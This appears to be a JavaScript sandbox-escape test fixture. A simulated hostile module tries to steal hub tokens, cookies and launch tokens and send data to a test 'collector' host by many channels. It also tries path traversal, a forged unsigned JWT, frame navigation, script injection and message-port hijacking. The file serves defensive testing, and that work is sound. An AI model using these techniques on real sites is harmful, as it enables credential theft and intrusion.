/**
 * What a stranger's package could try. Each attack gives the name of what stopped it, or `LEAKED ...` when it got
 * something. The addresses of the hub and of a collector come from the test.
 */
const SETTLE_MS = 400

const settle = () => new Promise((resolve) => setTimeout(resolve, SETTLE_MS))
const leaked = (what) => `LEAKED ${String(what).slice(0, 80)}`

function attempt(reach) {
  try {
    const got = reach()
    return got === undefined || got === null ? 'nothing' : leaked(got)
  } catch (error) {
    return error.name
  }
}

/** For what gives nothing back: only the name of what stopped it is of interest, the rest the test sees for itself. */
function tried(action) {
  try {
    action()
    return 'nothing'
  } catch (error) {
    return error.name
  }
}

async function answered(request) {
  try {
    const answer = await request
    return leaked(`${answer.type} ${answer.status}`)
  } catch (error) {
    return error.name
  }
}

function loads(element, attribute, address) {
  return new Promise((resolve) => {
    element.onload = () => resolve(leaked('loaded'))
    element.onerror = () => resolve('refused')
    element[attribute] = address
    document.body.append(element)
    setTimeout(() => resolve('nothing'), SETTLE_MS)
  })
}

/** Reading the hub: its page, its storage, its session. */
function readAttacks() {
  return {
    'top document': attempt(() => top.document.title),
    'grandparent document': attempt(() => parent.parent.document.body.innerHTML),
    'top storage': attempt(() => top.localStorage.getItem('hub.token')),
    'top session storage': attempt(() => top.sessionStorage.length),
    'own storage holds the token': attempt(() => localStorage.getItem('hub.token')),
    'own cookies': attempt(() => document.cookie || null),
    'top address': attempt(() => top.location.href),
    'top global': attempt(() => top.hubSecret),
    'frame element of the player': attempt(() => parent.frameElement),
    opener: attempt(() => top.opener || opener || parent.opener),
    referrer: attempt(() => parent.document.referrer || null),
    'launch token in the player page': attempt(
      () => /eyJ/.exec(parent.document.documentElement.outerHTML)?.[0],
    ),
    'launch token in the player address': attempt(
      () => parent.location.search || parent.location.hash || null,
    ),
  }
}

/** Calling the hub as the user, or anybody with what was found. */
async function callAttacks({ hub, collector }) {
  const worker = `fetch('${collector}/worker',{mode:'no-cors'}).then(()=>postMessage('LEAKED'),()=>postMessage('refused'))`
  return {
    'fetch the api': await answered(fetch(`${hub}/api/me`)),
    'fetch the api with cookies': await answered(fetch(`${hub}/api/me`, { credentials: 'include' })),
    'fetch the api blind': await answered(
      fetch(`${hub}/api/transfer`, { method: 'POST', mode: 'no-cors', body: 'x' }),
    ),
    'fetch the collector blind': await answered(fetch(`${collector}/fetch`, { mode: 'no-cors' })),
    'fetch from the player': await answered(parent.fetch(`${collector}/player-fetch`, { mode: 'no-cors' })),
    'send a request the old way': await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(leaked(request.status))
      request.onerror = () => resolve('refused')
      request.open('GET', `${hub}/api/me`)
      request.send()
    }),
    picture: await loads(new Image(), 'src', `${collector}/picture`),
    script: await loads(document.createElement('script'), 'src', `${collector}/script.js`),
    style: await loads(
      Object.assign(document.createElement('link'), { rel: 'stylesheet' }),
      'href',
      `${collector}/a.css`,
    ),
    prefetch: await loads(
      Object.assign(document.createElement('link'), { rel: 'prefetch' }),
      'href',
      `${collector}/p`,
    ),
    socket: await new Promise((resolve) => {
      try {
        const socket = new WebSocket(collector.replace('http', 'ws'))
        socket.onopen = () => resolve(leaked('open'))
        socket.onerror = () => resolve('refused')
      } catch (error) {
        resolve(error.name)
      }
    }),
    beacon: await new Promise((resolve) => {
      // What was queued says nothing; the collector counts what arrives.
      navigator.sendBeacon(`${collector}/beacon`, 'x')
      setTimeout(() => resolve('nothing'), SETTLE_MS)
    }),
    worker: await new Promise((resolve) => {
      const thread = new Worker(URL.createObjectURL(new Blob([worker])))
      thread.onmessage = (event) => resolve(event.data)
      thread.onerror = () => resolve('refused')
    }),
  }
}

/** Staying: taking over the origin, other modules' files, the person's camera. */
async function stayAttacks({ otherModule }) {
  const asFile = (path) => fetch(path).then((answer) => (answer.ok ? leaked(path) : String(answer.status)))
  return {
    'service worker': await navigator.serviceWorker.register('worker.js').then(
      () => leaked('registered'),
      (error) => error.name,
    ),
    "another module's files": await asFile(otherModule),
    'the list of files': await asFile('.files.json'),
    'a file outside': await asFile('..%2f..%2f..%2fpackage.json'),
    'another session': await fetch('/session', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ launchToken: 'eyJhbGciOiJub25lIn0.e30.' }),
    }).then((answer) => (answer.ok ? leaked('session') : String(answer.status))),
    camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(
      () => leaked('camera'),
      (error) => error.name,
    ),
    position: await new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve(leaked('position')),
        () => resolve('refused'),
      )
    }),
  }
}

/** Steering the page around it, and opening others. */
async function steerAttacks({ collector }) {
  const link = (target) => {
    const anchor = document.createElement('a')
    Object.assign(anchor, { href: `${collector}/link`, target })
    document.body.append(anchor)
    anchor.click()
  }
  const form = (target) => {
    const element = document.createElement('form')
    Object.assign(element, { action: `${collector}/form`, method: 'post', target })
    document.body.append(element)
    element.submit()
  }
  const nested = (sandbox, script) => {
    const element = parent.document.createElement('iframe')
    if (sandbox !== null) element.setAttribute('sandbox', sandbox)
    element.srcdoc = `<script>${script}</scr` + `ipt>`
    parent.document.body.append(element)
  }
  const results = {
    'navigate the top': tried(() => (top.location = `${collector}/top`)),
    'navigate the top by script address': tried(() => (top.location = 'javascript:alert(1)')),
    'replace the top': tried(() => top.location.replace(`${collector}/replace`)),
    'navigate the top from the player': tried(() => parent.eval(`void (top.location = '${collector}/eval')`)),
    'close the top': tried(() => top.close()),
    popup: attempt(() => open(`${collector}/popup`)),
    'popup from the player': attempt(() => parent.open(`${collector}/player-popup`)),
    'open over the top': attempt(() => open(`${collector}/open-top`, '_top')),
    link: tried(() => link('_blank')),
    'link over the top': tried(() => link('_top')),
    'form over the top': tried(() => form('_top')),
    'form in a new window': tried(() => form('_blank')),
    'unsandbox itself': tried(() => frameElement.removeAttribute('sandbox')),
    'a frame without a sandbox': tried(() => nested(null, `top.location='${collector}/nested'`)),
    'a frame with every right': tried(() =>
      nested('allow-scripts allow-top-navigation allow-popups', `open('${collector}/rights')`),
    ),
    'a foreign frame': tried(() =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${collector}/frame` })),
    ),
    'go back': tried(() => history.go(-1)),
  }
  await settle()
  return results
}

/** Speaking in the player's name: past the port, from the player's own window, and with its port. */
async function spoofAttacks() {
  const lies = [
    { type: 'frame:hello', v: 1, role: 'player' },
    { type: 'frame:hello', v: 1, role: 'host' },
    { type: 'frame:status', status: 'ready' },
    { type: 'frame:status', status: 'unavailable' },
    { type: 'frame:stopped' },
    { type: 'module:event', name: 'score', value: 100 },
  ]
  for (const lie of lies) top.postMessage(lie, '*')
  parent.postMessage({ type: 'hub:init', v: 1 }, '*')
  const intruder = parent.document.createElement('script')
  const intrusion = await new Promise((resolve) => {
    intruder.onload = () => resolve(leaked('loaded'))
    intruder.onerror = () => resolve('refused')
    intruder.src = new URL('intruder.js', location.href).href
    parent.document.body.append(intruder)
  })
  const speak = parent.MessagePort.prototype.postMessage
  let stolen
  parent.MessagePort.prototype.postMessage = function (...message) {
    stolen = this
    return speak.apply(this, message)
  }
  parent.postMessage({ type: 'module:event', name: 'claim' }, '*')
  await settle()
  for (const lie of lies) if (stolen) speak.call(stolen, lie)
  await settle()
  return { 'spoofed messages': 'sent', 'a script in the player page': intrusion }
}

window.attack = async (targets) => ({
  ...readAttacks(),
  ...(await callAttacks(targets)),
  ...(await stayAttacks(targets)),
  ...(await steerAttacks(targets)),
  ...(await spoofAttacks()),
})
window.readAttacks = readAttacks
